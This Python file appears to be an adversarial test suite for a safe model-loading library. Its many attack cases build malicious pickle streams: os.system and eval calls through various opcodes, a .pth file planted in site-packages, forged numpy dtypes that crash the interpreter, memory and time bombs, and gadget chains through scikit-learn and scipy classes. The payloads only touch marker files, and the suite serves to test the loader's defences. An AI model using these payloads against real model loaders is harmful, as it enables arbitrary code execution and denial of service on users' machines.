for _kind, _ops in ENVELOPE_SCALARS.items():

    @attack(f"envelope-numpy-scalar-{_kind}", 1, f"a numpy scalar: {_kind}")
    def _(corpus: Corpus, atk: Attack, ops: bytes = _ops) -> None:
        _in_the_envelope(corpus, atk, ops)


@attack("envelope-scalars-of-one-value", 5, "1,500 text scalars over one 256 KB value")
def _(corpus: Corpus, atk: Attack) -> None:
    # A numpy scalar's data, a memo reference for the second, was copied
    # into a text at each: 2,000 texts of 65,536 emoji over one memoized
    # value held 648 MB from a head of 280 KB (found reading the reader
    # after round 159: each value a call copies is taken once).
    data = struct.pack("<I", 0x1F600) * 65_536
    first = envelope_scalar("U65536", data)
    again = first.replace(raw(data), pickle.BINGET + b"\x00")
    first = first.replace(raw(data), raw(data) + pickle.BINPUT + b"\x00")
    ops = EMPTY_LIST + MARK + first + again * 1_499 + APPENDS
    _in_the_envelope(corpus, atk, ops)
    atk.max_peak = 256 * MIB


@attack("outer-numpy-scalar-as-stream", 1, "a numpy scalar where the stream belongs")
def _(corpus: Corpus, atk: Attack) -> None:
    # An earlier release's file may hold a scalar in its envelope only.
    outer_attack(
        corpus, atk, stream=Hole(1), holes={1: envelope_scalar("f8", bytes(8))}
    )


@attack("outer-eval-as-stream", 1, "builtins.eval where the stream belongs")
def _(corpus: Corpus, atk: Attack) -> None:
    code = f"__import__('os').system({touch(marker(corpus, atk))!r})"
    outer_attack(
        corpus, atk, stream=Call(eval, code), control=Control("marker", PICKLE_CONTROL)
    )


@attack("outer-memmap-creates-file", 1, "numpy.memmap(path, 'w+') as a buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    target = corpus.folder(atk.name) / "created-by-memmap.bin"
    memmap = Call(np.memmap, str(target), np.uint8, "w+", 0, (64,))
    outer_attack(
        corpus, atk, buffers=[memmap], control=Control("marker", PICKLE_CONTROL)
    )


@attack("outer-tofile-writes-pth", 1, "ndarray.tofile(site-packages/x.pth) as a buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    site = corpus.folder(atk.name) / "site-packages"
    site.mkdir(exist_ok=True)
    content = f"import os; os.system({touch(marker(corpus, atk))!r})\n".encode()
    tofile = Call(getattr, np.frombuffer(content, np.uint8), "tofile")
    outer_attack(
        corpus,
        atk,
        buffers=[Call(tofile, str(site / "evil.pth"))],
        control=Control("marker", PICKLE_CONTROL),
    )


@attack("outer-ndarray-call", 1, "numpy.ndarray((2**36,)) called as a buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    outer_attack(
        corpus,
        atk,
        buffers=[Call(np.ndarray, (2**36,), np.uint8)],
        control=Control("memory", PICKLE_CONTROL),
    )


@attack("outer-object-dtype-buffer", 1, "a buffer of a forged object dtype (SIGSEGV)")
def _(corpus: Corpus, atk: Attack) -> None:
    frombuffer = call(
        glob("numpy._core.numeric", "_frombuffer"),
        raw(b"A" * 16),
        forged_object_dtype(),
        tup(integer(2)),
        text("C"),
    )
    outer_attack(
        corpus,
        atk,
        buffers=[Hole(0)],
        holes={0: frombuffer},
        control=Control(
            "crash", PICKLE_CONTROL + "print(repr(obj.__dict__['_sealed'].buffers))\n"
        ),
    )


@attack("outer-build-on-class", 1, "BUILD sets attributes of an imported class")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = glob("sklearn._loss.loss", "HalfSquaredError")
    ops += tup(NONE, EMPTY_DICT + text("__ve_pwned__") + TRUE + SETITEM) + BUILD
    check = (
        "try:\n    " + PICKLE_CONTROL.replace("\n", "\n    ").rstrip() + "\n"
        "except Exception:\n    pass\n"
        "from sklearn._loss.loss import HalfSquaredError\n"
        "value = getattr(HalfSquaredError, '__ve_pwned__', False) is True\n"
    )
    outer_attack(
        corpus, atk, buffers=[Hole(0)], holes={0: ops}, control=Control("check", check)
    )


@attack("outer-setitem-on-environ", 1, "SETITEM on os.environ (not built by the file)")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = glob("os", "environ") + text("VE_PWNED") + text("1") + SETITEM
    check = (
        "try:\n    " + PICKLE_CONTROL.replace("\n", "\n    ").rstrip() + "\n"
        "except Exception:\n    pass\n"
        "import os\nvalue = os.environ.get('VE_PWNED') == '1'\n"
    )
    outer_attack(
        corpus, atk, buffers=[Hole(0)], holes={0: ops}, control=Control("check", check)
    )


@attack("outer-amend-envelope-after-head", 1, "SETITEM on the envelope after the head")
def _(corpus: Corpus, atk: Attack) -> None:
    base = corpus.small.copy()
    data = pickle.dumps(assemble(base, recompute=False), protocol=5)
    memo = 0
    index = None
    previous = None
    for op, _, _ in pickletools.genops(data):
        if op.name == "MEMOIZE":
            if previous == "EMPTY_DICT" and index is None:
                index = memo
            memo += 1
        previous = op.name
    assert index is not None
    amend = get(index) + text("metadata") + EMPTY_DICT
    amend += text("amended") + TRUE + SETITEM + SETITEM + POP
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(data[:-1] + amend + STOP)
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}
    check = PICKLE_CONTROL + "value = obj.envelope.metadata == {'amended': True}\n"
    atk.control = Control("check", check)


@attack("outer-inst-opcode", 1, "INST posix.system (protocol 0)")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = MARK + text(touch(marker(corpus, atk))) + b"iposix\nsystem\n"
    outer_attack(
        corpus,
        atk,
        buffers=[Hole(0)],
        holes={0: ops},
        control=Control("marker", PICKLE_CONTROL),
    )


@attack("outer-obj-opcode", 1, "OBJ posix.system")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = MARK + glob("posix", "system") + text(touch(marker(corpus, atk))) + b"o"
    outer_attack(
        corpus,
        atk,
        buffers=[Hole(0)],
        holes={0: ops},
        control=Control("marker", PICKLE_CONTROL),
    )


@attack("outer-ext-code", 1, "EXT1 of a registered extension (posix.system)")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = b"\x82" + bytes([EXT_CODE]) + text(touch(marker(corpus, atk))) + TUPLE1
    outer_attack(
        corpus,
        atk,
        buffers=[Hole(0)],
        holes={0: ops + REDUCE},
        control=Control("marker", PICKLE_CONTROL),
    )


@attack("outer-persid-newobj-ex", 1, "BINPERSID and NEWOBJ_EX in the outer pickle")
def _(corpus: Corpus, atk: Attack) -> None:
    newobj = glob("subprocess", "Popen") + tup(text("true")) + EMPTY_DICT + b"\x92"
    outer_attack(
        corpus,
        atk,
        buffers=[Hole(0), Hole(1)],
        holes={0: text("pid") + b"Q", 1: newobj},
    )


@attack("outer-codec-punycode", 1, "_codecs.encode(text, 'punycode'): super-linear")
def _(corpus: Corpus, atk: Attack) -> None:
    # 8,000 characters took 6.1 s on a fast machine, at the control's 6 s
    # limit: 16,000 take four times that.
    payload = "".join(chr(0x100 + i) for i in range(16000))
    ops = call(glob("_codecs", "encode"), text(payload), text("punycode"))
    outer_attack(
        corpus,
        atk,
        stream=Hole(0),
        holes={0: ops},
        control=Control("hang", PICKLE_CONTROL, CONTROL_HANG),
    )


@attack("outer-huge-memo-index", 1, "LONG_BINPUT 2**28 in the head (4 KB -> 2 GB)")
def _(corpus: Corpus, atk: Attack) -> None:
    head_file(corpus, atk, EMPTY_DICT + put(2**28) + text("x") + STOP)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.control = Control("memory", PICKLE_CONTROL)


# -- 2. the allow-list and its gadgets -------------------------------------------------


@attack("inner-system", 2, "posix.system in the inner stream (REDUCE)")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + system(marker(corpus, atk)) + STOP
    inner_attack(corpus, atk, stream, names=("posix.system",))
    atk.control = Control("marker", JOBLIB_CONTROL)


@attack("inner-eval", 2, "builtins.eval of a string")
def _(corpus: Corpus, atk: Attack) -> None:
    code = f"__import__('os').system({touch(marker(corpus, atk))!r})"
    stream = PROTO5 + call(glob("builtins", "eval"), text(code)) + STOP
    inner_attack(corpus, atk, stream, names=("builtins.eval",))


@attack("inner-getattr-chain", 2, "getattr(__import__('os'), 'system')(...)")
def _(corpus: Corpus, atk: Attack) -> None:
    module = call(glob("builtins", "__import__"), text("os"))
    function = call(glob("builtins", "getattr"), module, text("system"))
    stream = PROTO5 + function + tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
    inner_attack(corpus, atk, stream, names=("builtins.getattr", "builtins.__import__"))


@attack("inner-dotted-name", 2, "the dotted name 'posix' 'system.__call__'")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = call(glob("posix", "system.__call__"), text(touch(marker(corpus, atk))))
    inner_attack(corpus, atk, PROTO5 + stream + STOP, names=("posix.system.__call__",))


@attack("inner-name-imported-into-sklearn", 2, "sklearn._config.os.system")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = call(
        glob("sklearn._config", "os.system"), text(touch(marker(corpus, atk)))
    )
    inner_attack(
        corpus, atk, PROTO5 + stream + STOP, names=("sklearn._config.os.system",)
    )


@attack("inner-memo-shadowing", 2, "an allowed name memoized, then overwritten")
def _(corpus: Corpus, atk: Attack) -> None:
    allowed = glob("sklearn.linear_model._logistic", "LogisticRegression")
    stream = PROTO5 + allowed + b"\x94" + POP + glob("posix", "system") + b"q\x00" + POP
    stream += b"h\x00" + tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
    inner_attack(corpus, atk, stream, names=("posix.system",))


@attack("inner-global-opcode", 2, "a text GLOBAL opcode inside a protocol 5 stream")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + b"cposix\nsystem\n" + tup(text(touch(marker(corpus, atk))))
    inner_attack(corpus, atk, stream + REDUCE + STOP, names=("posix.system",))


@attack("inner-inst-opcode", 2, "INST posix.system")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + MARK + text(touch(marker(corpus, atk))) + b"iposix\nsystem\n"
    inner_attack(corpus, atk, stream + STOP, names=("posix.system",))


@attack("inner-obj-opcode", 2, "OBJ posix.system")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + MARK + glob("posix", "system") + text(touch(marker(corpus, atk)))
    inner_attack(corpus, atk, stream + b"o" + STOP, names=("posix.system",))


@attack("inner-newobj-ex", 2, "NEWOBJ_EX of subprocess.Popen")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + glob("subprocess", "Popen") + tup(text("true")) + EMPTY_DICT
    inner_attack(
        corpus, atk, stream + b"\x92" + STOP, names=("subprocess.Popen",), control=None
    )


@attack("inner-ext-code", 2, "EXT1 of a registered extension (posix.system)")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + b"\x82" + bytes([EXT_CODE])
    stream += tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
    inner_attack(corpus, atk, stream, names=("posix.system",))


@attack("inner-ext-code-cached", 2, "EXT1 of an extension this process resolved before")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + b"\x82" + bytes([EXT_CACHED])
    stream += tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
    inner_attack(corpus, atk, stream, names=("os.system",))
    # Any earlier unpickling that met the code (here: one that only resolves
    # it, calling nothing) leaves the function in copyreg's cache.
    prime = (
        "import pickle\nimport versioned_estimator as ve\n"
        f"pickle.loads(bytes([0x80, 2, 0x82, {EXT_CACHED}, 0x2E]))\n"
    )
    atk.entries = ()
    atk.extra = [
        (
            "audit after the code was resolved",
            "exec",
            {"code": prime + "ve.audit(path)\n"},
        ),
        (
            "load after the code was resolved",
            "exec",
            {"code": prime + "ve.load(path)\n"},
        ),
    ]
    atk.raises = {"load after the code was resolved": {"UntrustedGlobalError"}}

    def flagged(label: str, outcome: Outcome) -> list[str]:
        return []

    atk.check = flagged


@attack("inner-persid", 2, "BINPERSID in the inner stream")
def _(corpus: Corpus, atk: Attack) -> None:
    inner_attack(corpus, atk, PROTO5 + text("x") + b"Q" + STOP, control=None)


@attack("inner-build-on-class", 2, "BUILD on an allowed class object")
def _(corpus: Corpus, atk: Attack) -> None:
    ops = glob("sklearn._loss.loss", "HalfSquaredError")
    ops += tup(NONE, EMPTY_DICT + text("__ve_pwned__") + TRUE + SETITEM) + BUILD
    check = STREAM_CONTROL + (
        "from sklearn._loss.loss import HalfSquaredError\n"
        "value = getattr(HalfSquaredError, '__ve_pwned__', False) is True\n"
    )
    inner_attack(corpus, atk, PROTO5 + ops + STOP, control="check", violation=True)
    atk.control = Control("check", check)


@attack("inner-code-in-model-state", 2, "os.system inside a LogisticRegression's state")
def _(corpus: Corpus, atk: Attack) -> None:
    model = LogisticRegression().fit(*corpus.iris)
    model.notes_ = Call(os.system, touch(marker(corpus, atk)))
    stream = pickle.dumps(model, protocol=5)
    inner_attack(corpus, atk, stream, names=("posix.system",))
    atk.control = Control("marker", JOBLIB_CONTROL)


@attack("inner-call-built-object", 2, "REDUCE on an object the stream built")
def _(corpus: Corpus, atk: Attack) -> None:
    partial = call(
        glob("functools", "partial"), glob("sklearn.utils.validation", "check_array")
    )
    rows = EMPTY_LIST + EMPTY_LIST + integer(1) + b"a" + b"a"
    stream = PROTO5 + partial + tup(rows) + REDUCE + STOP
    inner_attack(corpus, atk, stream, control=None, violation=True)


@attack(
    "inner-cloudpickle-code", 2, "a lambda stored by value, run by the probe replay"
)
def _(corpus: Corpus, atk: Attack) -> None:
    from sklearn.preprocessing import FunctionTransformer

    path = str(marker(corpus, atk))
    code = f"lambda X: (open({path!r}, 'w').close(), X)[1]"
    transformer = FunctionTransformer(eval(code), validate=False)
    X = corpus.iris[0]
    wrapped = ve.VersionedEstimator.wrap(transformer.fit(X), probe=X[:3])
    base = parts_of(wrapped)
    with contextlib.suppress(OSError):
        os.unlink(path)
    assert base.envelope["payload"]["pickler"] == "cloudpickle"
    inner_attack(
        corpus,
        atk,
        base.stream,
        base=base,
        envelope=lambda e: e.update(python="3.11.0"),
    )
    atk.control = Control("marker", JOBLIB_CONTROL)

    def untrusted(label: str, outcome: Outcome) -> list[str]:
        if label == "audit" and outcome.value and outcome.value["ok"]:
            return ["audit says ok"]
        return []

    atk.check = untrusted


def stacking_file(
    corpus: Corpus, atk: Attack, wrap: Callable[[Any], Any], *, names: tuple[str, ...]
) -> None:
    """A StackingRegressor whose ``stack_method_`` names ``tofile`` and whose
    estimator is (or forwards to) an array of .pth content: the probe replay,
    fed rows that decode to a path, writes the array to that path."""
    X = np.random.default_rng(0).random((30, 3))
    y = X.sum(axis=1)
    model = StackingRegressor([("a", Ridge())], final_estimator=LinearRegression())
    model.fit(X, y)
    base = parts_of(ve.VersionedEstimator.wrap(model, probe=X[:3]))
    site = corpus.folder(atk.name) / "site-packages"
    site.mkdir(exist_ok=True)
    content = f"import os; os.system({touch(marker(corpus, atk))!r})\n".encode()
    model.estimators_ = [wrap(np.array([content]))]
    model.stack_method_ = ["tofile"]
    stream = pickle.dumps(model, protocol=5)

    def envelope(e: dict[str, Any]) -> None:
        e.update(python="3.11.0", probe=probe_list_of(str(site / "evil.pth")))

    inner_attack(
        corpus,
        atk,
        stream,
        base=base,
        envelope=envelope,
        names=names,
        # The probe reader now takes only 1- to 4-d arrays, so no probe
        # replay passes a path; the control calls the gadget the way the
        # replay once did, to show the stream still holds it.
        control_code=STREAM_CONTROL + f"obj._transform({str(site / 'evil.pth')!r})\n",
    )
    atk.path = write(
        atk.path,
        assemble(
            base,
            stream=stream,
            buffers=[],
            envelope=envelope,
            trailer=lambda t: t.update(probe={"outputs": {"predict": ZERO_OUTPUT}}),
        ),
    )


@attack("gadget-frozen-estimator", 2, "FrozenEstimator forwards tofile to an array")
def _(corpus: Corpus, atk: Attack) -> None:
    from sklearn.frozen import FrozenEstimator

    stacking_file(corpus, atk, FrozenEstimator, names=())
    # A frozen estimator is on the allow-list (scikit-learn calibrates a
    # model fitted before through one): audit, which reads names, passes it;
    # the load refuses the probe of a path, and a frozen estimator holding
    # anything but an estimator (tests/test_frozen_estimator.py), before any
    # method runs.
    atk.raises = {"load": {"EnvelopeError", "UntrustedGlobalError"}}
    atk.codes = {}
    atk.check = None


@attack("allowed-stacking-tofile", 2, "allowed names only: stack_method_ 'tofile'")
def _(corpus: Corpus, atk: Attack) -> None:
    stacking_file(corpus, atk, lambda array: array, names=())
    # Every name is allowed: load may succeed, but must not write the file.
    atk.raises = {}
    atk.codes = {}
    atk.check = None


@attack(
    "gadget-scipy-distribution-exec", 2, "a scipy.stats distribution execs its state"
)
def _(corpus: Corpus, atk: Attack) -> None:
    import scipy.stats

    distribution = copy.copy(scipy.stats.norm)
    distribution._parse_arg_template = (
        f"open({str(marker(corpus, atk))!r}, 'w').close()\n"
        + distribution._parse_arg_template
    )
    evil = distribution
    stream = pickle.dumps(evil, protocol=5)
    inner_attack(
        corpus, atk, stream, names=("scipy.stats._continuous_distns.norm_gen",)
    )


@attack("gadget-scoring-monitor-connects", 2, "ScoringMonitor connects on restore")
def _(corpus: Corpus, atk: Attack) -> None:
    from sklearn.callback._scoring_monitor import ScoringMonitor
    from sklearn.callback._transport import ListenerHandle

    monitor = object.__new__(ScoringMonitor)
    address = ("127.0.0.1", corpus.port[atk.name])
    monitor.__dict__.update(
        _scoring=None,
        _log=[],
        _estimator_scorers={},
        _listener_handle=ListenerHandle(address=address, authkey=b"k" * 32),
    )
    stream = pickle.dumps(monitor, protocol=5)
    inner_attack(
        corpus, atk, stream, names=("sklearn.callback._scoring_monitor.ScoringMonitor",)
    )
    # multiprocessing's handshake then waits for the listener: a hang.
    atk.control = Control("connect", STREAM_CONTROL, CONTROL_HANG)


@attack("gadget-deprecated-rewrites-class", 2, "deprecated() applied to a class")
def _(corpus: Corpus, atk: Attack) -> None:
    decorator = call(glob("sklearn.utils.deprecation", "deprecated"), text("pwned"))
    lr = glob("sklearn.linear_model._logistic", "LogisticRegression")
    stream = PROTO5 + decorator + tup(lr) + REDUCE + STOP
    inner_attack(corpus, atk, stream, names=("sklearn.utils.deprecation.deprecated",))
    atk.control = Control(
        "check",
        STREAM_CONTROL + "import warnings\n"
        "from sklearn.linear_model import LogisticRegression\n"
        "with warnings.catch_warnings(record=True) as caught:\n"
        "    warnings.simplefilter('always')\n"
        "    LogisticRegression()\n"
        "value = any('pwned' in str(w.message) for w in caught)\n",
    )


@attack("allowed-tree-node-out-of-range", 2, "a tree whose child index is 10**8")
def _(corpus: Corpus, atk: Attack) -> None:
    X, y = corpus.iris
    tree = DecisionTreeClassifier(random_state=0).fit(X, y)
    base = parts_of(ve.VersionedEstimator.wrap(tree, probe=X[:5]))
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 10**8
    tree.tree_.__setstate__({**state, "nodes": nodes})
    stream = pickle.dumps(tree, protocol=5)
    inner_attack(
        corpus,
        atk,
        stream,
        base=base,
        envelope=lambda e: e.update(python="3.11.0"),
        control="crash",
        control_code=JOBLIB_CONTROL,
    )
    atk.raises = {}  # every name is allowed; what matters is no crash
    atk.codes = {}
    atk.check = None


# -- 3. forged dtypes ------------------------------------------------------------------


def _object_dtype_stream(kind: str) -> bytes:
    if kind == "reconstruct":
        array = call(
            glob("numpy._core.multiarray", "_reconstruct"),
            glob("numpy", "ndarray"),
            tup(integer(0)),
            raw(b"b"),
        )
        state = tup(integer(1), tup(integer(2)), forged_object_dtype(), FALSE)
        state = state[:-1] + raw(b"A" * 16) + TUPLE
        return PROTO5 + array + state + BUILD + STOP
    if kind == "frombuffer":
        ops = call(
            glob("numpy._core.numeric", "_frombuffer"),
            raw(b"A" * 16),
            forged_object_dtype(),
            tup(integer(2)),
            text("C"),
        )
        return PROTO5 + ops + STOP
    ops = call(
        glob("numpy._core.multiarray", "scalar"), forged_object_dtype(), raw(b"A" * 8)
    )
    return PROTO5 + ops + STOP


for _kind in ("reconstruct", "frombuffer", "scalar"):

    @attack(f"dtype-forged-object-{_kind}", 3, f"object dtype with flags 0 ({_kind})")
    def _(corpus: Corpus, atk: Attack, kind: str = _kind) -> None:
        inner_attack(
            corpus,
            atk,
            _object_dtype_stream(kind),
            control="crash",
            control_code=STREAM_CONTROL + "print(repr(obj))\n",
            violation=True,
        )


@attack("dtype-object-array-from-bytes", 3, "a genuine object dtype over raw bytes")
def _(corpus: Corpus, atk: Attack) -> None:
    dtype = call(glob("numpy", "dtype"), text("O8"), FALSE, TRUE)
    dtype += tup(integer(3), text("|"), NONE, NONE, NONE, integer(-1), integer(-1))
    dtype = dtype[:-1] + integer(63) + TUPLE + BUILD
    ops = call(
        glob("numpy._core.numeric", "_frombuffer"),
        raw(b"A" * 16),
        dtype,
        tup(integer(2)),
        text("C"),
    )
    inner_attack(corpus, atk, PROTO5 + ops + STOP, control=None, violation=True)


# -- 4. no import to decide ------------------------------------------------------------

STDLIB_UNUSED = (
    "tkinter",
    "turtle",
    "idlelib.pyshell",
    "xmlrpc.server",
    "http.server",
    "smtplib",
    "pdb",
    "doctest",
    "lib2to3.main",
    "wsgiref.simple_server",
    "ftplib",
    "imaplib",
    "sqlite3",
    "curses",
    "this",
)


def fake_package(corpus: Corpus) -> Path:
    """A package on the workers' path whose modules create a file when imported."""
    root = corpus.root / "packages"
    package = root / "vehostile_pkg"
    if not package.exists():
        package.mkdir(parents=True)
        touched = corpus.root / "packages-imported"
        touched.mkdir(exist_ok=True)
        code = "open({!r}, 'w').close()\n"
        (package / "__init__.py").write_text(code.format(str(touched / "__init__")))
        (package / "evil.py").write_text(
            code.format(str(touched / "evil")) + "class Thing:\n    pass\n"
        )
        for i in range(30):
            (package / f"m{i}.py").write_text(code.format(str(touched / f"m{i}")))
    return root


@attack("import-module-written-to-package", 4, "a global in a module on disk")
def _(corpus: Corpus, atk: Attack) -> None:
    root = fake_package(corpus)
    stream = PROTO5 + glob("vehostile_pkg.evil", "Thing") + b")" + b"\x81" + STOP
    inner_attack(corpus, atk, stream, names=("vehostile_pkg.evil.Thing",))
    atk.forbid = ["vehostile_pkg", "vehostile_pkg.evil"]
    atk.watch.append(corpus.root / "packages-imported")
    atk.watch.append(root)


@attack("import-many-modules", 4, "globals in 45 modules nobody imported")
def _(corpus: Corpus, atk: Attack) -> None:
    root = fake_package(corpus)
    modules = [f"vehostile_pkg.m{i}" for i in range(30)] + list(STDLIB_UNUSED)
    items = b"".join(glob(m, "Anything") for m in modules)
    stream = PROTO5 + EMPTY_LIST + MARK + items + APPENDS + STOP
    inner_attack(corpus, atk, stream, names=tuple(f"{m}.Anything" for m in modules))
    atk.forbid = ["vehostile_pkg", *modules]
    atk.watch.append(corpus.root / "packages-imported")
    atk.watch.append(root)


# -- 5. bounded time and memory --------------------------------------------------------


@attack("head-tuple-key-bomb", 5, "a dict key of 2**60 shared tuples in the head")
def _(corpus: Corpus, atk: Attack) -> None:
    head_file(corpus, atk, EMPTY_DICT + tuple_bomb(60) + integer(1) + SETITEM + STOP)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.control = Control("hang", PICKLE_CONTROL, CONTROL_HANG)


@attack("head-deep-tuple-key", 5, "a dict key nested 100,000 tuples deep in the head")
def _(corpus: Corpus, atk: Attack) -> None:
    deep = NONE + TUPLE1 * 100_000
    head_file(corpus, atk, EMPTY_DICT + deep + integer(1) + SETITEM + STOP)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("head-reduce-on-tuple-bomb", 5, "REDUCE whose callable is a 2**60 tuple bomb")
def _(corpus: Corpus, atk: Attack) -> None:
    head_file(corpus, atk, tuple_bomb(60) + b")" + REDUCE + STOP)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("head-memo-expansion", 5, "metadata of shared lists expanding to 2**40 nodes")
def _(corpus: Corpus, atk: Attack) -> None:
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = Hole(0)

    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
    data = splice(data, {0: EMPTY_DICT + text("rows") + list_bomb(40) + SETITEM})
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(data)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.control = Control(
        "hang or memory",
        "import joblib\nobj = joblib.load(path)\nobj.envelope.to_json()\n",
        CONTROL_HANG,
    )


@attack(
    "trailer-memo-expansion-after-a-long-head", 5, "2**25 trailer nodes, 10 MiB before"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Round 42: the trailer's node bound counted every byte before it (a
    # 72 MB model's arrays, a long head), which built none of its nodes.
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = {"pad": "x" * (10 << 20)}

    def trailer(t: dict[str, Any]) -> None:
        t["extra"] = Hole(1)

    built = assemble(corpus.small, envelope=envelope, trailer=trailer)
    data = splice(dumps_fast(built), {1: list_bomb(25)})
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(data)
    atk.raises = {e: {"EnvelopeError"} for e in ("audit", "load")}
    atk.codes = {e: {2} for e in ("cli audit", "cli verify")}


@attack("head-of-dropped-values", 5, "36 MiB of text the head pushes and drops")
def _(corpus: Corpus, atk: Attack) -> None:
    # Round 42: dropped values bought the head's node bound.
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = Hole(0)

    dropped = (text("x" * (12 << 20)) + POP) * 3
    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
    data = splice(
        data, {0: dropped + EMPTY_DICT + text("rows") + list_bomb(27) + SETITEM}
    )
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(data)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("head-shared-long-string", 5, "4,000 memo references to one 1 MiB string")
def _(corpus: Corpus, atk: Attack) -> None:
    # Round 18: two bytes a reference in the file, 4 GiB once dumped as JSON.
    rows = ["x" * 2**20] * 4000
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=lambda e: e.update(metadata={"rows": rows})),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.control = Control(
        "memory", "import joblib\nobj = joblib.load(path)\nobj.envelope.to_json()\n"
    )


@attack("signed-head-shared-long-string", 5, "the same, read with a key")
def _(corpus: Corpus, atk: Attack) -> None:
    # The signature check dumps the head as canonical JSON: refused before.
    rows = ["x" * 2**15] * 100_000
    signed = assemble(corpus.small, key=KEY)
    signed.reduced[1][0]["metadata"] = {"rows": rows}
    signed_variant(corpus, atk, signed, raises={"EnvelopeError"})
    atk.codes = {"cli verify --key-env": {2}}


@attack("head-deep-nesting", 5, "metadata nested 200,000 levels deep")
def _(corpus: Corpus, atk: Attack) -> None:
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = Hole(0)

    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
    deep = EMPTY_DICT + text("deep") + EMPTY_LIST + (TUPLE1 * 200_000) + SETITEM
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(splice(data, {0: deep}))
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("head-values-pushed-and-dropped", 5, "a million dicts pushed, then dropped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Dropped values never reach a check of what the head holds: 4 million
    # held 380 MB while they were on the stack (round 93).
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = Hole(0)

    data = dumps_fast(assemble(corpus.small, envelope=envelope, recompute=False))
    junk = MARK + EMPTY_DICT * 1_000_000 + b"1" + EMPTY_DICT  # POP_MARK, then {}
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(splice(data, {0: junk}))
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.max_seconds = 10.0
    atk.max_peak = 48 * MIB


@attack("inner-twenty-thousand-globals", 5, "20,000 distinct globals, each dropped")
def _(corpus: Corpus, atk: Attack) -> None:
    # The dry run listed names in lists and stubbed a class each: 60,000
    # names ran past a minute (round 93).
    stream = bytearray(PROTO5)
    for i in range(20_000):
        stream += text(f"m{i}") + text("x") + b"\x93" + POP
    inner_attack(corpus, atk, bytes(stream + NONE + STOP), control=None)
    atk.max_seconds = 10.0

    def refused(label: str, outcome: Outcome) -> list[str]:
        if label != "load" or outcome.error is None:
            return []
        message = outcome.error["message"]
        return [] if "globals named" in message else [f"refused as {message[:120]}"]

    atk.check = refused


def names_printed_at_most(most: int) -> Callable[[str, Outcome], list[str]]:
    """``audit`` lists every name, each whole up to a bound: a few MB at most."""

    def check(label: str, outcome: Outcome) -> list[str]:
        value = outcome.value
        if not label.startswith("cli") or not isinstance(value, dict):
            return []
        printed = len(value["stdout"]) + len(value["stderr"])
        return [f"printed {printed:,} characters"] if printed > most else []

    return check


@attack("inner-escaped-global-names", 5, "10,000 globals of one memoized emoji module")
def _(corpus: Corpus, atk: Attack) -> None:
    # A name Python could not have written is recorded escaped, ten times
    # its length for emoji: 15 bytes a global named 10,000 characters, and
    # audit searched lists of them: past 60 s and 100 MB printed from 127 KB
    # (round 99).
    stream = bytearray(PROTO5 + text("\U0001f600" * 1000) + b"\x94")
    for i in range(10_000):
